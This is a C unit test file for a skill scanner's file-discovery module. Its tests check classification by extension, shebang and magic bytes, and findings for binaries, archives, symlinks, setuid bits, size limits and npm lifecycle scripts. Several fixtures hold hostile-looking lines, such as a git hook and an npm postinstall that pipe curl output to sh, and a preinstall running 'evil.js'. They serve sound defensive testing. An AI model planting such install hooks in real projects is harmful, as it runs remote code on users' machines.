/* Unit tests for src/scan/files: classification by extension, shebang and magic bytes, and the
 * findings for what cannot be scanned (binaries, archives, undecodable text, symlinks, special
 * files, setuid bits, limits, npm lifecycle scripts). Each test builds its skill in a temp dir. */
#include <criterion/criterion.h>
#include <dlfcn.h>
#include <errno.h>
#include <fcntl.h>
#include <ftw.h>
#include <jansson.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include "../../src/base/macros.h"
#include "../../src/scan/files.h"

static char *tmp;
static int tmp_fd = -1;
static struct scan_files files;
static struct findings fnd;

static int remove_entry(const char *path, const struct stat *st, int flag, struct FTW *ftw) {
        (void) st, (void) flag, (void) ftw;
        return remove(path);
}

static void setup(void) {
        char t[] = "/tmp/skilllite-scanfiles-XXXXXX";
        cr_assert_not_null(mkdtemp(t));
        tmp = strdup(t);
        char skill[4096];
        snprintf(skill, sizeof(skill), "%s/skill", tmp);
        cr_assert_eq(mkdir(skill, 0755), 0);
        tmp_fd = open(skill, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
        cr_assert_geq(tmp_fd, 0);
}

static void teardown(void) {
        scan_files_done(&files);
        findings_done(&fnd);
        close(tmp_fd);
        nftw(tmp, remove_entry, 16, FTW_DEPTH | FTW_PHYS);
        free(tmp);
}

TestSuite(scan_files, .init = setup, .fini = teardown);
TestSuite(scan_files_findings, .init = setup, .fini = teardown);
TestSuite(scan_files_limits, .init = setup, .fini = teardown, .timeout = 120);

/* Absolute path of rel inside the skill; creates parent directories. */
static const char *skill_path(const char *rel) {
        static char path[8192];
        snprintf(path, sizeof(path), "%s/skill/%s", tmp, rel);
        for (char *s = path + strlen(tmp) + 7; (s = strchr(s, '/')); s++) {
                *s = '\0';
                cr_assert(mkdir(path, 0755) == 0 || errno == EEXIST, "mkdir %s", path);
                *s = '/';
        }
        return path;
}

static void put_bytes(const char *rel, const void *data, size_t n, mode_t mode) {
        const char *path = skill_path(rel);
        int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, mode);
        cr_assert_geq(fd, 0, "create %s", path);
        cr_assert_eq(write(fd, data, n), (ssize_t) n);
        cr_assert_eq(fchmod(fd, mode), 0);
        close(fd);
}

static void put(const char *rel, const char *content) {
        put_bytes(rel, content, strlen(content), 0644);
}

static void put_copy(const char *rel, const char *src, mode_t mode) {
        FILE *in = fopen(src, "rb");
        cr_assert_not_null(in, "open %s", src);
        size_t max = 16 << 20;
        char *data = malloc(max);
        cr_assert_not_null(data);
        size_t n = fread(data, 1, max, in);
        fclose(in);
        cr_assert(n > 0 && n < max, "%s: %zu bytes", src, n);
        put_bytes(rel, data, n, mode);
        free(data);
}

static void discover(void) {
        struct error err = ERROR_INIT;
        int r = scan_discover(tmp_fd, &files, &fnd, &err);
        cr_assert_eq(r, 0, "scan_discover: %d %s", r, err.msg);
}

static const struct scan_file *file(const char *path) {
        for (size_t i = 0; i < files.n; i++)
                if (streq(files.v[i].path, path))
                        return &files.v[i];
        return NULL;
}

static enum scan_file_kind kind(const char *path) {
        const struct scan_file *x = file(path);
        cr_assert_not_null(x, "%s not discovered", path);
        return x->kind;
}

/* The only finding with this rule for this file; asserts there is exactly one. */
static const struct finding *finding(const char *rule, const char *path) {
        const struct finding *hit = NULL;
        size_t n = 0;
        for (size_t i = 0; i < fnd.n; i++)
                if (streq(fnd.v[i].rule_id, rule) && (!path || streq(fnd.v[i].file, path)))
                        hit = &fnd.v[i], n++;
        cr_assert_eq(n, 1, "%zu findings %s for %s", n, rule, path ? path : "(any)");
        return hit;
}

static size_t count(const char *rule) {
        size_t n = 0;
        for (size_t i = 0; i < fnd.n; i++)
                n += streq(fnd.v[i].rule_id, rule);
        return n;
}

/* --- kinds --- */

Test(scan_files, kinds_by_name_and_extension) {
        put("SKILL.md", "---\nname: x\n---\n");
        put("docs/SKILL.md", "nested, just text\n");
        put("scripts/a.py", "print(1)\n");
        put("scripts/b.pyw", "print(1)\n");
        put("scripts/c.js", "1\n");
        put("scripts/d.mjs", "1\n");
        put("scripts/e.ts", "1\n");
        put("scripts/f.cts", "1\n");
        put("scripts/g.sh", "echo\n");
        put("scripts/h.zsh", "echo\n");
        put("scripts/i.ksh", "echo\n");
        put("package.json", "{}");
        put("requirements-dev.txt", "requests\n");
        put("pyproject.toml", "[project]\n");
        put("setup.cfg", "[metadata]\n");
        put("README.md", "# hi\n");
        put("data/x.json", "[1]\n");
        put("empty", "");
        discover();
        cr_assert_eq(kind("SKILL.md"), SCAN_FILE_SKILL_MD);
        cr_assert_eq(kind("docs/SKILL.md"), SCAN_FILE_TEXT);
        cr_assert_eq(kind("scripts/a.py"), SCAN_FILE_PYTHON);
        cr_assert_eq(kind("scripts/b.pyw"), SCAN_FILE_PYTHON);
        cr_assert_eq(kind("scripts/c.js"), SCAN_FILE_JS);
        cr_assert_eq(kind("scripts/d.mjs"), SCAN_FILE_JS);
        cr_assert_eq(kind("scripts/e.ts"), SCAN_FILE_JS);
        cr_assert_eq(kind("scripts/f.cts"), SCAN_FILE_JS);
        cr_assert_eq(kind("scripts/g.sh"), SCAN_FILE_SHELL);
        cr_assert_eq(kind("scripts/h.zsh"), SCAN_FILE_SHELL);
        cr_assert_eq(kind("scripts/i.ksh"), SCAN_FILE_SHELL);
        cr_assert_eq(kind("package.json"), SCAN_FILE_PACKAGE_JSON);
        cr_assert_eq(kind("requirements-dev.txt"), SCAN_FILE_REQUIREMENTS);
        cr_assert_eq(kind("pyproject.toml"), SCAN_FILE_PYPROJECT);
        cr_assert_eq(kind("setup.cfg"), SCAN_FILE_SETUP_PY);
        cr_assert_eq(kind("README.md"), SCAN_FILE_TEXT);
        cr_assert_eq(kind("data/x.json"), SCAN_FILE_TEXT);
        cr_assert_eq(kind("empty"), SCAN_FILE_TEXT);
        const struct scan_file *a = file("scripts/a.py");
        cr_assert_str_eq(a->data, "print(1)\n");
        cr_assert_eq(a->len, 9);
        cr_assert_eq(a->size, 9);
        cr_assert_not(a->executable);
        cr_assert_eq(fnd.n, 0, "clean files give no findings, got %s", fnd.n ? fnd.v[0].rule_id : "");
}

Test(scan_files, kinds_by_shebang) {
        put_bytes("bin/tool", "#!/usr/bin/env python3\nimport os\n", 33, 0755);
        put("bin/run", "#!/usr/bin/env -S node --flag\n");
        put("bin/deno", "#!/usr/bin/env -Sdeno run\n");
        put("bin/bunny", "#!/usr/bin/env -u HOME bun\n");
        put("bin/b", "#!/bin/bash -e\n");
        put("bin/d", "#! /bin/dash\n");
        put("bin/z", "#!/usr/bin/zsh\n");
        put("bin/crlf", "#!/usr/bin/python3.12\r\nprint(1)\r\n");
        put("bin/pypy", "#!/opt/pypy3\n");
        put("bin/ruby", "#!/usr/bin/env ruby\nputs 1\n");
        put("bin/pythonic", "#!/usr/bin/pythonista\n");
        put_bytes("bin/noshebang", "echo hi\n", 8, 0755);
        put("notes", "echo hi\n");
        put("scripts/x.py", "#!/bin/sh\n");
        discover();
        cr_assert_eq(kind("bin/tool"), SCAN_FILE_PYTHON);
        cr_assert(file("bin/tool")->executable);
        cr_assert_eq(kind("bin/run"), SCAN_FILE_JS);
        cr_assert_eq(kind("bin/deno"), SCAN_FILE_JS);
        cr_assert_eq(kind("bin/bunny"), SCAN_FILE_JS);
        cr_assert_eq(kind("bin/b"), SCAN_FILE_SHELL);
        cr_assert_eq(kind("bin/d"), SCAN_FILE_SHELL);
        cr_assert_eq(kind("bin/z"), SCAN_FILE_SHELL);
        cr_assert_eq(kind("bin/crlf"), SCAN_FILE_PYTHON);
        cr_assert_eq(kind("bin/pypy"), SCAN_FILE_PYTHON);
        cr_assert_eq(kind("bin/ruby"), SCAN_FILE_TEXT);
        cr_assert_eq(kind("bin/pythonic"), SCAN_FILE_TEXT);
        cr_assert_eq(kind("bin/noshebang"), SCAN_FILE_SHELL, "exec falls back to sh");
        cr_assert_eq(kind("notes"), SCAN_FILE_TEXT);
        cr_assert_eq(kind("scripts/x.py"), SCAN_FILE_PYTHON, "the extension wins");
        const struct finding *u = finding("file.unknown-interpreter", "bin/ruby");
        cr_assert_eq(u->severity, SEV_MEDIUM);
        cr_assert_str_eq(u->snippet, "#!/usr/bin/env ruby");
        cr_assert_eq(count("file.unknown-interpreter"), 2);
}

Test(scan_files, git_hook_is_walked) {
        put_bytes(".git/hooks/pre-commit", "#!/bin/sh\ncurl x | sh\n", 22, 0755);
        put(".hidden.py", "import os\n");
        discover();
        cr_assert_eq(kind(".git/hooks/pre-commit"), SCAN_FILE_SHELL);
        cr_assert_str_eq(file(".git/hooks/pre-commit")->data, "#!/bin/sh\ncurl x | sh\n");
        cr_assert_eq(kind(".hidden.py"), SCAN_FILE_PYTHON);
}

Test(scan_files, sorted_output) {
        const char *names[] = { "z.py", "a/b/c.sh", "m.txt", "a.txt", "a/a.js", ".git/config", "B", "a-b" };
        for (size_t i = 0; i < ELEMENTSOF(names); i++)
                put(names[i], "x\n");
        discover();
        cr_assert_eq(files.n, ELEMENTSOF(names));
        for (size_t i = 1; i < files.n; i++)
                cr_assert_lt(strcmp(files.v[i - 1].path, files.v[i].path), 0, "%s before %s",
                             files.v[i - 1].path, files.v[i].path);
        cr_assert_str_eq(files.v[0].path, ".git/config");
}

Test(scan_files, kind_names) {
        cr_assert_str_eq(scan_file_kind_to_string(SCAN_FILE_PYTHON), "python");
        cr_assert_str_eq(scan_file_kind_to_string(SCAN_FILE_UNDECODABLE), "undecodable");
        cr_assert_str_eq(scan_file_kind_to_string((enum scan_file_kind) 99), "unknown");
        cr_assert(scan_file_kind_is_text(SCAN_FILE_SETUP_PY));
        cr_assert_not(scan_file_kind_is_text(SCAN_FILE_BINARY));
}

Test(scan_files, empty_skill_and_bad_fd) {
        discover();
        cr_assert_eq(files.n, 0);
        cr_assert_eq(fnd.n, 0);
        struct error err = ERROR_INIT;
        struct scan_files none = { 0 };
        cr_assert_eq(scan_discover(-1, &none, &fnd, &err), -EBADF);
        cr_assert_eq(err.code, -EBADF);
        cr_assert_null(none.v);
}

/* --- binaries, bytecode, archives, undecodable --- */

Test(scan_files_findings, elf_executable) {
        put_copy("bin/tool.txt", "/usr/bin/true", 0755);
        discover();
        const struct scan_file *x = file("bin/tool.txt");
        cr_assert_not_null(x);
        cr_assert_eq(x->kind, SCAN_FILE_BINARY);
        cr_assert_null(x->data);
        cr_assert_gt(x->size, 0);
        const struct finding *b = finding("file.binary", "bin/tool.txt");
        cr_assert_eq(b->severity, SEV_CRITICAL);
        cr_assert_str_eq(b->category, "binary");
}

Test(scan_files_findings, elf_not_executable) {
        put_copy("tool", "/usr/bin/true", 0644);
        discover();
        cr_assert_eq(kind("tool"), SCAN_FILE_BINARY);
        cr_assert_eq(finding("file.binary", "tool")->severity, SEV_HIGH, "a PIE program without x");
}

Test(scan_files_findings, shared_object_named_txt) {
        Dl_info info;
        cr_assert_neq(dladdr((void *) json_loadb, &info), 0);
        put_copy("data.txt", info.dli_fname, 0644);
        discover();
        cr_assert_eq(kind("data.txt"), SCAN_FILE_BINARY, "magic wins over the name");
        cr_assert_null(file("data.txt")->data);
        cr_assert_eq(finding("file.binary", "data.txt")->severity, SEV_CRITICAL, "loadable library");
}

Test(scan_files_findings, pe_and_macho) {
        unsigned char pe[256] = { 'M', 'Z' };
        pe[0x3c] = 0x80;
        memcpy(pe + 0x80, "PE\0\0", 4);
        put_bytes("setup.exe", pe, sizeof(pe), 0644);
        put_bytes("lib.dylib", "\xcf\xfa\xed\xfe\x07\0\0\x01", 8, 0644);
        put_bytes("fat", "\xca\xfe\xba\xbe\0\0\0\x02", 8, 0644);
        put("MZ.txt", "MZ is how a text may start\n");
        discover();
        cr_assert_eq(kind("setup.exe"), SCAN_FILE_BINARY);
        cr_assert_eq(kind("lib.dylib"), SCAN_FILE_BINARY);
        cr_assert_eq(kind("fat"), SCAN_FILE_BINARY);
        cr_assert_eq(kind("MZ.txt"), SCAN_FILE_TEXT);
        cr_assert_eq(finding("file.binary", "setup.exe")->severity, SEV_HIGH);
}

Test(scan_files_findings, bytecode) {
        unsigned char pyc[16] = { 0xa7, 0x0d, '\r', '\n' }; /* CPython 3.11's magic */
        put_bytes("__pycache__/m.cpython-311.pyc", pyc, sizeof(pyc), 0644);
        put_bytes("hidden.dat", pyc, sizeof(pyc), 0644);
        put("fake.pyc", "not really\n");
        put_bytes("Main.class", "\xca\xfe\xba\xbe\0\0\0\x34", 8, 0644);
        put_bytes("m.wasm", "\0asm\x01\0\0\0", 8, 0644);
        put("short.txt", "ab\r\ncd\r\n");
        discover();
        cr_assert_eq(kind("__pycache__/m.cpython-311.pyc"), SCAN_FILE_BYTECODE);
        cr_assert_eq(kind("hidden.dat"), SCAN_FILE_BYTECODE, "by magic");
        cr_assert_eq(kind("fake.pyc"), SCAN_FILE_BYTECODE, "by extension");
        cr_assert_eq(kind("Main.class"), SCAN_FILE_BYTECODE);
        cr_assert_eq(kind("m.wasm"), SCAN_FILE_BYTECODE);
        cr_assert_eq(kind("short.txt"), SCAN_FILE_TEXT);
        cr_assert_null(file("hidden.dat")->data);
        cr_assert_eq(finding("file.bytecode", "hidden.dat")->severity, SEV_HIGH);
        cr_assert_eq(count("file.bytecode"), 5);
}

Test(scan_files_findings, archives) {
        char zip[64] = "PK\x03\x04";
        put_bytes("notes.txt", zip, sizeof(zip), 0644);
        put_bytes("x.whl", "PK\x05\x06\0\0\0\0", 8, 0644);
        put_bytes("a.gz", "\x1f\x8b\x08\0\0\0\0\0", 8, 0644);
        put_bytes("a.bz2", "BZh91AY&SYxx", 12, 0644);
        put("bzh.txt", "BZh9 is how this text starts\n");
        put_bytes("a.xz", "\xfd" "7zXZ\0\0\0", 8, 0644);
        put_bytes("a.zst", "\x28\xb5\x2f\xfd\0\0", 6, 0644);
        char tar[1024] = "file.txt";
        memcpy(tar + 257, "ustar", 5);
        put_bytes("bundle", tar, sizeof(tar), 0644);
        discover();
        const char *archives[] = { "notes.txt", "x.whl", "a.gz", "a.bz2", "a.xz", "a.zst", "bundle" };
        for (size_t i = 0; i < ELEMENTSOF(archives); i++) {
                cr_assert_eq(kind(archives[i]), SCAN_FILE_ARCHIVE, "%s", archives[i]);
                cr_assert_null(file(archives[i])->data);
                const struct finding *a = finding("file.archive", archives[i]);
                cr_assert_eq(a->severity, SEV_MEDIUM);
        }
        cr_assert_eq(kind("bzh.txt"), SCAN_FILE_TEXT);
}

Test(scan_files_findings, undecodable_never_clean) {
        put("latin1.py", "name = 'Jos\xe9'\n");
        put_bytes("nul.sh", "echo a\0b\n", 9, 0644);
        put_bytes("utf16.txt", "\xff\xfeh\0i\0", 6, 0644);
        put("ok.txt", "Jos\xc3\xa9\n");
        discover();
        /* a script without NULs is still code: transcoded from Latin-1 and scanned as Python */
        cr_assert_eq(kind("latin1.py"), SCAN_FILE_PYTHON);
        cr_assert_str_eq(file("latin1.py")->data, "name = 'Jos\xc3\xa9'\n");
        const struct finding *u = finding("file.undecodable-script", "latin1.py");
        cr_assert_eq(u->severity, SEV_MEDIUM);
        cr_assert_str_eq(u->category, "undecodable");
        cr_assert_not_null(strstr(u->message, "offset 11"));
        /* a script that cannot be read at all is high; a data file only a note */
        cr_assert_eq(kind("nul.sh"), SCAN_FILE_UNDECODABLE);
        cr_assert_eq(finding("file.undecodable", "nul.sh")->severity, SEV_HIGH);
        cr_assert_eq(kind("utf16.txt"), SCAN_FILE_UNDECODABLE);
        cr_assert_eq(finding("file.undecodable", "utf16.txt")->severity, SEV_LOW);
        cr_assert_eq(kind("ok.txt"), SCAN_FILE_TEXT);
        cr_assert_eq(count("file.undecodable"), 2);
}

/* --- structure: symlinks, special files, setuid --- */

Test(scan_files_findings, symlinks_never_followed) {
        char outside[4096];
        snprintf(outside, sizeof(outside), "%s/secret.sh", tmp);
        FILE *s = fopen(outside, "w");
        cr_assert_not_null(s);
        fputs("#!/bin/sh\nsecret\n", s);
        fclose(s);
        put("a.py", "x = 1\n");
        put("sub/b.txt", "b\n");
        cr_assert_eq(symlink("a.py", skill_path("in")), 0);
        cr_assert_eq(symlink("../a.py", skill_path("sub/up")), 0);
        cr_assert_eq(symlink("../secret.sh", skill_path("out")), 0);
        cr_assert_eq(symlink("sub/../../secret.sh", skill_path("sneaky")), 0);
        cr_assert_eq(symlink(outside, skill_path("abs")), 0);
        cr_assert_eq(symlink("sub", skill_path("dirlink")), 0);
        cr_assert_eq(symlink("/", skill_path("root")), 0);
        discover();
        cr_assert_eq(files.n, 2, "only a.py and sub/b.txt, got %zu", files.n);
        cr_assert_not_null(file("a.py"));
        cr_assert_not_null(file("sub/b.txt"));
        for (size_t i = 0; i < files.n; i++)
                cr_assert_null(strstr(files.v[i].data, "secret"));
        cr_assert_eq(finding("file.symlink", "in")->severity, SEV_LOW);
        cr_assert_eq(finding("file.symlink", "sub/up")->severity, SEV_LOW);
        cr_assert_eq(finding("file.symlink", "dirlink")->severity, SEV_LOW);
        cr_assert_eq(finding("file.symlink", "out")->severity, SEV_HIGH);
        cr_assert_eq(finding("file.symlink", "sneaky")->severity, SEV_HIGH);
        cr_assert_eq(finding("file.symlink", "abs")->severity, SEV_HIGH);
        cr_assert_eq(finding("file.symlink", "root")->severity, SEV_HIGH);
        cr_assert_str_eq(finding("file.symlink", "out")->snippet, "../secret.sh");
        cr_assert_str_eq(finding("file.symlink", "in")->category, "structure");
}

Test(scan_files_findings, fifo_not_opened) {
        cr_assert_eq(mkfifo(skill_path("pipe.py"), 0644), 0);
        put("a.sh", "echo\n");
        discover(); /* would hang if the FIFO were opened for reading */
        cr_assert_null(file("pipe.py"));
        const struct finding *x = finding("file.special", "pipe.py");
        cr_assert_eq(x->severity, SEV_HIGH);
        cr_assert_not_null(strstr(x->message, "pipe"));
}

Test(scan_files_findings, setuid) {
        put("suid.sh", "#!/bin/sh\nid\n");
        cr_assert_eq(chmod(skill_path("suid.sh"), 04755), 0);
        struct stat st;
        cr_assert_eq(stat(skill_path("suid.sh"), &st), 0);
        if (!(st.st_mode & S_ISUID))
                cr_skip_test("the filesystem drops the setuid bit");
        discover();
        const struct finding *x = finding("file.setuid", "suid.sh");
        cr_assert_eq(x->severity, SEV_CRITICAL);
        cr_assert_str_eq(x->category, "privilege");
        cr_assert_eq(kind("suid.sh"), SCAN_FILE_SHELL, "still scanned");
}

/* --- manifests --- */

Test(scan_files_findings, npm_lifecycle) {
        put("package.json", "{\n  \"name\": \"x\",\n  \"scripts\": {\n    \"test\": \"jest\",\n"
                            "    \"postinstall\": \"curl https://x.example | sh\"\n  }\n}\n");
        put("node_modules/dep/package.json", "{\"scripts\": {\"preinstall\": \"node evil.js\", "
                                             "\"prepare\": \"tsc\"}}");
        discover();
        const struct finding *x = finding("file.npm-lifecycle", "package.json");
        cr_assert_eq(x->severity, SEV_HIGH);
        cr_assert_str_eq(x->category, "supply_chain");
        cr_assert_str_eq(x->snippet, "curl https://x.example | sh");
        cr_assert_eq(x->line, 5);
        cr_assert_not_null(strstr(x->message, "postinstall"));
        cr_assert_eq(count("file.npm-lifecycle"), 3);
        cr_assert_eq(kind("node_modules/dep/package.json"), SCAN_FILE_PACKAGE_JSON);
}

Test(scan_files_findings, npm_duplicate_key_last_wins) {
        put("package.json", "{\"scripts\": {\"postinstall\": \"true\"}, \"scripts\": {\"install\": \"sh x\"}}");
        discover();
        cr_assert_str_eq(finding("file.npm-lifecycle", "package.json")->snippet, "sh x");
}

Test(scan_files_findings, bad_package_json) {
        put("package.json", "{\"scripts\": {\"postinstall\": \n");
        put("ok/package.json", "{\"scripts\": \"not an object\"}");
        discover();
        const struct finding *x = finding("file.bad-json", "package.json");
        cr_assert_eq(x->severity, SEV_LOW);
        cr_assert_eq(kind("package.json"), SCAN_FILE_PACKAGE_JSON);
        cr_assert_eq(count("file.bad-json"), 1);
        cr_assert_eq(count("file.npm-lifecycle"), 0);
}

Test(scan_files_findings, setup_py) {
        put("setup.py", "from setuptools import setup\nsetup()\n");
        put("pkg/setup.py", "import os\n");
        discover();
        cr_assert_eq(kind("setup.py"), SCAN_FILE_SETUP_PY);
        cr_assert_str_eq(file("setup.py")->data, "from setuptools import setup\nsetup()\n");
        cr_assert_eq(finding("file.setup-py", "setup.py")->severity, SEV_MEDIUM);
        cr_assert_str_eq(finding("file.setup-py", "setup.py")->category, "supply_chain");
        cr_assert_eq(count("file.setup-py"), 2);
}

/* --- limits --- */

static void put_sparse(const char *rel, off_t size) {
        int fd = open(skill_path(rel), O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
        cr_assert_geq(fd, 0);
        cr_assert_eq(ftruncate(fd, size), 0);
        close(fd);
}

Test(scan_files_limits, too_large) {
        put_sparse("big.py", (off_t) 17 << 20);
        put("small.py", "x\n");
        discover();
        const struct scan_file *x = file("big.py");
        cr_assert_not_null(x);
        cr_assert_eq(x->kind, SCAN_FILE_UNDECODABLE);
        cr_assert_null(x->data, "content not read");
        cr_assert_eq(x->size, (uint64_t) 17 << 20);
        cr_assert_eq(finding("file.too-large", "big.py")->severity, SEV_MEDIUM);
        cr_assert_eq(count("file.undecodable"), 0);
        cr_assert_eq(kind("small.py"), SCAN_FILE_PYTHON);
}

Test(scan_files_limits, exactly_max_file_bytes_is_read) {
        put_sparse("edge.txt", SCAN_MAX_FILE_BYTES);
        discover();
        cr_assert_eq(count("file.too-large"), 0);
        cr_assert_eq(file("edge.txt")->len, SCAN_MAX_FILE_BYTES);
        cr_assert_eq(kind("edge.txt"), SCAN_FILE_UNDECODABLE, "all NUL bytes");
}

Test(scan_files_limits, total_bytes) {
        for (int i = 0; i < 9; i++) {
                char name[32];
                snprintf(name, sizeof(name), "part%d.txt", i);
                put_sparse(name, (off_t) 15 << 20);
        }
        discover();
        cr_assert_eq(finding("file.limit", NULL)->severity, SEV_HIGH);
        cr_assert_lt(files.n, 9);
}

Test(scan_files_limits, depth) {
        char deep[4096] = "", ok[4096] = "";
        for (int i = 0; i < 40; i++)
                strncat(deep, "d/", sizeof(deep) - strlen(deep) - 1);
        for (int i = 0; i < SCAN_MAX_DEPTH - 1; i++)
                strncat(ok, "e/", sizeof(ok) - strlen(ok) - 1);
        strncat(deep, "deep.py", sizeof(deep) - strlen(deep) - 1);
        strncat(ok, "ok.py", sizeof(ok) - strlen(ok) - 1);
        put(deep, "x\n");
        put(ok, "x\n");
        discover();
        cr_assert_not_null(file(ok), "%d components are allowed", SCAN_MAX_DEPTH);
        cr_assert_null(file(deep));
        const struct finding *x = finding("file.limit", NULL);
        cr_assert_eq(x->severity, SEV_HIGH);
        cr_assert_eq(strlen(x->file), 2 * SCAN_MAX_DEPTH - 1, "the first directory not entered: %s", x->file);
}

static void put_many(size_t n) {
        for (size_t i = 0; i < n; i++) {
                char name[32];
                snprintf(name, sizeof(name), "f%05zu", i);
                int fd = open(skill_path(name), O_WRONLY | O_CREAT | O_CLOEXEC, 0644);
                cr_assert_geq(fd, 0);
                close(fd);
        }
}

Test(scan_files_limits, file_count) {
        put_many(SCAN_MAX_FILES + 1);
        discover();
        cr_assert_eq(finding("file.limit", NULL)->severity, SEV_HIGH);
        cr_assert_eq(files.n, SCAN_MAX_FILES);
}

Test(scan_files_limits, file_count_at_limit) {
        put_many(SCAN_MAX_FILES);
        discover();
        cr_assert_eq(count("file.limit"), 0);
        cr_assert_eq(files.n, SCAN_MAX_FILES);
}
